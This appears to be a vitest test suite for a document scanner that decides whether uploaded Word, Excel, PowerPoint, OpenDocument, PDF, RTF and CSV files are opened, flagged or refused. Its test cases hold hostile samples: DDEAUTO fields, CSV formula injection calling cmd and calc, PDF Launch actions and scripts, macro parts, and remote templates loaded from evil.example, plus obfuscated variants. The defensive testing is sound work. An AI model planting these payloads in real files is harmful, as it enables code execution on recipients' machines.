// notices: zip-of-any-names
import { deflateSync } from "node:zlib";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { lookIntoDocument } from "../../../src-main/documents/look-into-document.ts";
import { processorMs } from "../linear.ts";
import { makeZip, type Part } from "./make-zip.ts";

const bytes = (text: string) => Buffer.from(text, "latin1");
const types = { name: "[Content_Types].xml", content: "<Types/>" };
const office = (...parts: readonly Part[]) => makeZip([types, ...parts]);
const ole = (text = "") =>
  Buffer.concat([bytes(`\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${"\0".repeat(600)}`), Buffer.from(text, "utf16le")]);
const rels = (type: string, target: string, mode = "External") =>
  office({
    name: "word/_rels/settings.xml.rels",
    content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
  });
const word = (xml: string) => office({ name: "word/document.xml", content: xml });
const slide = (xml: string) => office({ name: "ppt/slides/slide1.xml", content: `<p:sld>${xml}</p:sld>` });
const pdf = (...objects: readonly string[]) => bytes(`%PDF-1.7\n${objects.join("\nendobj\n")}\n%%EOF`);
const packed = (objects: string, dictionary = "/Filter /FlateDecode") =>
  pdf(
    `7 0 obj\n<< /Type /ObjStm /N 1 ${dictionary} >>\nstream\n${deflateSync(bytes(objects)).toString("latin1")}\nendstream`,
  );

/** Makes an OpenDocument file, with the type at the beginning of the file, where its entry `mimetype` puts it. */
const openDocument = (...parts: readonly Part[]) =>
  makeZip([{ name: "mimetypeapplication/vnd.oasis.opendocument.text", content: "" }, ...parts]);

const field = "<w:document><w:instrText>DDEAUTO cmd</w:instrText></w:document>";

const utf32 = (text: string) => [...text].map((letter) => `${letter}\0\0\0`).join("");
const long = `<w:p>${" ".repeat(45 * 1024 * 1024)}`;

const refused = (reason: string) => ({ kind: "refuse", reason });
const asked = (doubt: string) => ({ kind: "ask", doubt });

test.each<[string, string, Buffer]>([
  ["a letter", "a.docx", word("<w:t>Dear DDE, = and so on</w:t>")],
  ["a letter with a link", "a.docx", rels("hyperlink", "https://example.com/")],
  [
    "a letter with its writer's template",
    "a.docx",
    rels("attachedTemplate", "file:///C:\\Users\\Zoe\\Normal.dotm"),
  ],
  ["a letter with a template beside it", "a.docx", rels("attachedTemplate", "Offer.dotx")],
  ["a sheet with a chart's data", "a.xlsx", office({ name: "xl/embeddings/sheet.xlsx", content: "PK" })],
  [
    "a letter with pictures, sound and fonts",
    "a.docx",
    office(
      { name: "word/document.xml", content: '<?xml version="1.0" encoding="UTF-8"?><w:document/>' },
      { name: "word/media/image1.png", content: Buffer.from("\x89PNG\r\n\x1a\n<ddeLink>", "latin1") },
      { name: "word/media/media1.mp4", content: Buffer.alloc(17 * 1024 * 1024, "\0\0ftyp<") },
      { name: "word/fonts/font1.odttf", content: Buffer.alloc(300_000, 0xa5) },
      { name: "docProps/thumbnail.emf", content: Buffer.alloc(300_000, 1) },
    ),
  ],
  [
    "a letter with a picture of lines",
    "a.docx",
    office({
      name: "word/media/image1.svg",
      content: `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd" [<!ENTITY ns "http://www.w3.org/2000/svg">]><svg xmlns="&ns;"><!-- DDE --><path d="${"M1 1".repeat(50_000)}"/></svg>`,
    }),
  ],
  [
    "a letter with data of its template",
    "a.docx",
    office({ name: "customXml/item1.xml", content: `<data>${"QUJD".repeat(50_000)}</data>` }),
  ],
  [
    "a letter with fields",
    "a.docx",
    word(
      '<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:instrText xml:space="preserve"> HYPERLINK "https://example.com/?a=1&amp;b=2" </w:instrText></w:r><w:r><w:instrText/></w:r><!-- end --><w:t>DDE</w:t></w:p>',
    ),
  ],
  [
    "a workbook of 40 MB of rows",
    "a.xlsx",
    office({
      name: "xl/worksheets/sheet1.xml",
      content: `<sheetData>${`<row><c r="A1" t="inlineStr"><is><t>${"a".repeat(900)}</t></is></c></row>`.repeat(42_000)}</sheetData>`,
    }),
  ],
  [
    "an OpenDocument text of an old version",
    "a.odt",
    openDocument({
      name: "META-INF/manifest.xml",
      content:
        '<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><manifest:manifest/>',
    }),
  ],
  [
    "a slide with links to slides and pages",
    "a.pptx",
    slide(
      '<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/><a:hlinkClick r:id="r2"/><a:hlinkHover r:id="r3" action="ppaction://hlinksldjump"/><a:t>ppaction://program</a:t>',
    ),
  ],
  ["a PDF with a link", "a.pdf", pdf("1 0 obj << /S /URI /URI (https://example.com) >>")],
  ["a PDF with an invoice's data", "a.pdf", pdf("1 0 obj << /Type /EmbeddedFile >>")],
  ["a PDF with packed objects", "a.pdf", packed("<< /Type /Page /Launcher 1 >>")],
  ["a price list", "a.csv", bytes("article,price\r\nPen,-1.5\r\nCall,+49 30 123\r\n")],
  ["a text", "a.txt", bytes("=cmd|' /C calc'!A0")],
])("%s is opened without a question", async (_what, name, content) => {
  expect(await lookIntoDocument(name, content)).toBeNull();
});

describe("documents that are refused for their content", () => {
  test.each<[string, string, Buffer]>([
    ["macros", "a.docx", office({ name: "word/vbaProject.bin", content: "x" })],
    ["macros in other letters", "a.xlsx", office({ name: "XL\\VBAPROJECT.BIN", content: "x" })],
    [
      "macros under another name",
      "a.docx",
      makeZip([
        {
          name: "[Content_Types].xml",
          content: '<Override ContentType="application/vnd.ms-office.vbaProject"/>',
        },
      ]),
    ],
    ["sheets of Excel 4 macros", "a.xlsx", office({ name: "xl/macrosheets/sheet1.xml", content: "" })],
    ["Basic of OpenDocument", "a.odt", openDocument({ name: "Basic/Standard/Module1.xml", content: "" })],
    [
      "a field that asks a program",
      "a.docx",
      word("<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText>"),
    ],
    ["a field in letters with long numbers", "a.docx", word("<w:instrText>D&#x0000000044;&#0000000069;")],
    ["a field within another", "a.docx", word("<w:instrText> <w:instrText>DDE cmd")],
    ["a simple field that asks a program", "a.docx", word('<w:fldSimple w:instr="DDEAUTO cmd">')],
    [
      "a link to a program",
      "a.xlsx",
      office({ name: "xl/externalLinks/externalLink1.xml", content: "<ddeLink>" }),
    ],
    [
      "a field in a main part at another place",
      "a.docx",
      office(
        {
          name: "_rels/.rels",
          content:
            '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="x/y.xml"/></Relationships>',
        },
        { name: "x/y.xml", content: field },
      ),
    ],
    ["a field in a folder of its own", "a.docx", office({ name: "word/a/document.xml", content: field })],
    ["a field in a part named as no XML", "a.docx", office({ name: "word/document.bin", content: field })],
    [
      "a field in a part named as a picture",
      "a.docx",
      office({ name: "x.png", content: `\ufeff \n${field}` }),
    ],
    [
      "a field behind spaces without end",
      "a.docx",
      office({ name: "x.png", content: `${" ".repeat(200_000)}${field}` }),
    ],
    [
      "a field in UTF-16 without a mark of its order",
      "a.docx",
      office({ name: "x.png", content: Buffer.from(` ${field}`, "utf16le") }),
    ],
    [
      "a field with a prefix of other letters",
      "a.docx",
      word("<w-é.1:document><w-é.1:instrText>DDEAUTO cmd</w-é.1:instrText></w-é.1:document>"),
    ],
    [
      "a link to a program at another place",
      "a.xlsx",
      office({ name: "xl/x/externalLink1.xml", content: "<externalLink><x:ddeLink/></externalLink>" }),
    ],
    [
      "a link to a program in a sheet's place",
      "a.xlsx",
      office({ name: "xl/worksheets/sheet9.xml", content: "<ddeLink/>" }),
    ],
    [
      "a link to a program in another part of OpenDocument",
      "a.odt",
      openDocument({ name: "Object 1/styles.xml", content: "<office:dde-source/>" }),
    ],
    [
      "a slide that starts a program at a click",
      "a.pptx",
      slide('<a:hlinkClick r:id="r2" action="ppaction://program"/>'),
    ],
    [
      "a slide that starts a program under the pointer",
      "a.pptx",
      slide(`<a:hlinkHover r:id='r2' action = 'PPAction:&#x2f;/program'/>`),
    ],
    [
      "a word of a slide that starts a program under the pointer",
      "a.pptx",
      slide('<a:hlinkMouseOver action="ppaction://program" r:id="r2"/>'),
    ],
    ["an action that starts a program", "a.pdf", pdf("1 0 obj << /S /Launch /F (cmd.exe) >>")],
    ["a packed action that starts a program", "a.pdf", packed("<< /S /Launch /F (cmd.exe) >>")],
    ["a formula that starts a program", "a.csv", bytes("name\r\n=cmd|' /C calc'!A0\r\n")],
    ["such a formula behind a semicolon", "a.csv", bytes("name\r\nx; +cmd|' /C calc'!A0\r\n")],
    ["such a formula over two lines", "a.tsv", bytes("name\r\n\"@1+\ncmd|' /C calc'!A0\"\r\n")],
    ["such a formula in UTF-16", "a.csv", Buffer.from("\ufeffa;=cmd|' /C calc'!A0", "utf16le")],
    ["an object in rich text", "a.rtf", bytes("{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}")],
    ["a field in rich text", "a.rtf", bytes("{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd}}}")],
    ["macros of an older format", "a.doc", ole("_VBA_PROJECT")],
  ])("a document with %s is refused as a program", async (_what, name, content) => {
    expect(await lookIntoDocument(name, content)).toEqual(refused("program"));
  });

  test.each([
    ["attachedTemplate", "https://evil.example/x.dotm"],
    ["attachedTemplate", "http:&#x2f;&#47;evil.example/x.dotm"],
    ["attachedTemplate", "\\\\evil.example\\share\\x.dotm"],
    ["attachedTemplate", "file://evil.example/share/x.dotm"],
    ["attachedTemplate", "file:///\\\\evil.example\\x.dotm"],
    ["oleObject", "https://evil.example/x.html"],
    ["frame", "mhtml:https://evil.example/x"],
    ["subDocument", "//evil.example/x.docx"],
  ])("a document that loads its %s from %s is refused", async (type, target) => {
    expect(await lookIntoDocument("a.docx", rels(type, target))).toEqual(refused("remote"));
  });

  test.each([
    ["in another kind of quotes", `Id=' TargetMode="Internal" '`],
    ["in letters by number", 'Id="&#34; TargetMode=&#34;Internal&#34; x=&#34;"'],
  ])(
    "a document that loads its template from elsewhere is refused, although another attribute denies that %s",
    async (_how, hidden) => {
      const content = `<Relationships><Relationship ${hidden} Type="http://x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`;
      const file = office({ name: "word/_rels/settings.xml.rels", content });
      expect(await lookIntoDocument("a.docx", file)).toEqual(refused("remote"));
    },
  );

  test("the rep is asked about a document that takes a part of another kind into itself", async () => {
    expect(await lookIntoDocument("a.docx", rels("aFChunk", "/word/part.rtf", "Internal"))).toEqual({
      kind: "ask",
      doubt: "unseen",
    });
  });

  test("rich text that loads its template from elsewhere is refused", async () => {
    const content = bytes("{\\rtf1{\\*\\template https://evil.example/x.dotm}}");
    expect(await lookIntoDocument("a.rtf", content)).toEqual(refused("remote"));
  });

  const plain = office({ name: "word/document.xml", content: "x" });
  test.each<[string, Buffer]>([
    ["no directory", bytes("PK\x03\x04[Content_Types].xml")],
    [
      "two parts of one name",
      office({ name: "word/a.xml", content: "1" }, { name: "WORD/a.xml", content: "2" }),
    ],
    ["something before its beginning", Buffer.concat([plain.subarray(0, 30), plain])],
    ["something behind its end", Buffer.concat([plain, bytes("x")])],
    ["a directory that is cut short", Buffer.concat([plain.subarray(0, -30), plain.subarray(-22)])],
  ])("a zip with %s is refused, because programs read it differently", async (_what, content) => {
    expect(await lookIntoDocument("a.docx", content)).toEqual(refused("disguised"));
  });
});

test.each<[string, Buffer]>([
  ["a name of over 1,000 letters", office({ name: `word/${"a".repeat(1_000)}`, content: "x" })],
  [
    "names of over 1 MB together",
    office(...Array.from({ length: 2_000 }, (_, at) => ({ name: `${"a".repeat(600)}${at}`, content: "" }))),
  ],
])("law 14: a zip with %s is refused, because no office program writes one", async (_what, content) => {
  expect(await lookIntoDocument("a.docx", content)).toEqual(refused("disguised"));
});

test("a document of 5,000 parts is opened without a question", async () => {
  const parts = Array.from({ length: 5_000 }, (_, at) => ({
    name: `ppt/slides/_rels/slide${at}.xml.rels`,
    content: "<Relationships/>",
  }));
  expect(await lookIntoDocument("a.pptx", office(...parts))).toBeNull();
});

test.each<[string, string, Buffer]>([
  ["oldFormat", "a.doc", ole()],
  ["oldFormat", "a.xls", ole()],
  ["oldFormat", "a.ppt", ole()],
  ["oldFormat", "a.rtf", bytes("{\\rtf1 hello}")],
  ["encrypted", "a.xls", ole("EncryptedPackage")],
  ["encrypted", "a.docx", ole("EncryptedPackage")],
  ["encrypted", "a.docx", office({ name: "word/document.xml", content: "x", isEncrypted: true })],
  [
    "encrypted",
    "a.odt",
    openDocument({ name: "META-INF/manifest.xml", content: "<manifest:encryption-data>" }),
  ],
  ["encrypted", "a.pdf", pdf("trailer << /Encrypt 9 0 R >>")],
  ["scripts", "a.pdf", pdf("1 0 obj << /S /JavaScript /JS (app.alert(1)) >>")],
  ["scripts", "a.pdf", packed("<< /JS 8 0 R >>")],
  ["unseen", "a.pdf", pdf("1 0 obj << /S /La#75nch >>")],
  ["unseen", "a.pdf", packed("x", "/Filter /LZWDecode")],
  ["unseen", "a.pdf", packed("x".repeat(9 * 1024 * 1024))],
  ["unseen", "a.docx", word("x".repeat(17 * 1024 * 1024))],
  [
    "unseen",
    "a.docx",
    office(...["a", "b", "c"].map((name) => ({ name: `word/${name}.xml`, content: long }))),
  ],
  ["unseen", "a.docx", office({ name: "word/document.xml", content: utf32(field) })],
  ["unseen", "a.docx", word('<?xml version="1.0" encoding="utf-7"?>+ADw-w:instrText+AD4-DDE')],
  ["unseen", "a.docx", word(`<w:instrText>${"x".repeat(129 * 1024)}`)],
  ["scripts", "a.pptx", slide('<a:hlinkClick r:id="" action="ppaction://macro?name=Next"/>')],
  ["embedded", "a.docx", office({ name: "word/embeddings/oleObject1.bin", content: "x" })],
  ["embedded", "a.docx", office({ name: "word/activeX/activeX1.xml", content: "x" })],
  ["formulas", "a.csv", bytes("a,b\r\n1,=WEBSERVICE(A1)\r\n")],
  ["formulas", "a.csv", bytes("a,b\r\n1,+cmd|x!y\r\n")],
  ["formulas", "a.csv", bytes("+1|".repeat(3000))],
])("the rep is asked about the doubt %s before %s is opened", async (doubt, name, content) => {
  expect(await lookIntoDocument(name, content)).toEqual(asked(doubt));
});

test.each([
  ["as data that are no markup", "<w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText>"],
  ["around a comment", "<w:instrText>DD<!-- < -->EAUTO cmd</w:instrText>"],
  ["around a comment far away", `<w:instrText>DD<!--${"x".repeat(300_000)}-->EAUTO cmd</w:instrText>`],
  ["around an instruction for XML", "<w:instrText>DD<?x?>EAUTO cmd</w:instrText>"],
  ["around another element", "<w:instrText>DD<x:y/>EAUTO cmd</w:instrText>"],
  ["behind the sign that ends an element", '<w:instrText a="/>">DD<!-- -->EAUTO cmd</w:instrText>'],
  ["by a word of its own", '<!DOCTYPE w [<!ENTITY d "DDE">]><w:instrText>&d;AUTO cmd</w:instrText>'],
  ["by a word in a simple field", '<!DOCTYPE w [<!ENTITY d "DDE">]><w:fldSimple w:instr="&d;AUTO cmd"/>'],
])("the rep is asked about a document with a field that is written %s", async (_how, xml) => {
  expect(await lookIntoDocument("a.docx", word(xml))).toEqual(asked("unseen"));
});

test("a document with any bytes behind a valid beginning is opened, asked about or refused without an exception", async () => {
  const beginnings = {
    "a.docx": bytes("PK\x03\x04[Content_Types].xml"),
    "a.pdf": bytes("%PDF-1.7 /ObjStm obj /FlateDecode stream\n"),
    "a.rtf": bytes("{\\rtf"),
    "a.csv": bytes("=|"),
    "a.xls": ole(),
  };
  const name = fc.constantFrom(...(Object.keys(beginnings) as (keyof typeof beginnings)[]));
  await fc.assert(
    fc.asyncProperty(name, fc.uint8Array({ maxLength: 300 }), async (chosen, noise) => {
      const found = await lookIntoDocument(chosen, Buffer.concat([beginnings[chosen], noise]));
      expect([undefined, "refuse", "ask"]).toContain(found?.kind);
    }),
    { numRuns: 1000 },
  );
});

test.each<[string, Buffer]>([
  ["a.csv", bytes(`a,b\r\n${"=,".repeat(2_000_000)}|`)],
  ["a.csv", bytes('"'.repeat(4_000_000))],
  ["a.pdf", pdf("/ObjStm ".repeat(500_000))],
  ["a.pdf", pdf(`/${"a".repeat(4_000_000)}`)],
  ["a.rtf", bytes(`{\\rtf${"\\template ".repeat(400_000)}`)],
  ["a.docx", word("<w:instrText".repeat(300_000))],
  ["a.docx", rels(`x" Type="`.repeat(100_000), "x")],
])(
  "a hostile %s of millions of letters is looked into within three seconds of the processor's time",
  async (name, content) => {
    let done: Promise<unknown> = Promise.resolve();
    const first = processorMs(() => {
      done = lookIntoDocument(name, content);
    });
    const before = process.threadCpuUsage();
    await done;
    const { user, system } = process.threadCpuUsage(before);
    expect(first + (user + system) / 1000).toBeLessThan(3000);
  },
);
